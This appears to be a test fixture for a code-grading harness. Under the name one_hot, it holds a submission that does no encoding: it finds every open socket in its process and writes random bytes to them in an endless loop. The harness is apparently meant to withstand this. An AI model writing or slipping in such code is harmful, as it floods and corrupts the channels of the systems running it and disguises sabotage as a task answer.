"""Writes random bytes without end to every socket it holds."""

LOSES = ("next_token_pairs",)
WAITS = True
ANSWERS = {
    "one_hot": """
import os
import stat


def one_hot(ids, V):
    sockets = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sockets.append(fd)
        except OSError:
            pass
    while True:
        for fd in sockets:
            os.write(fd, os.urandom(65_536))
""",
}
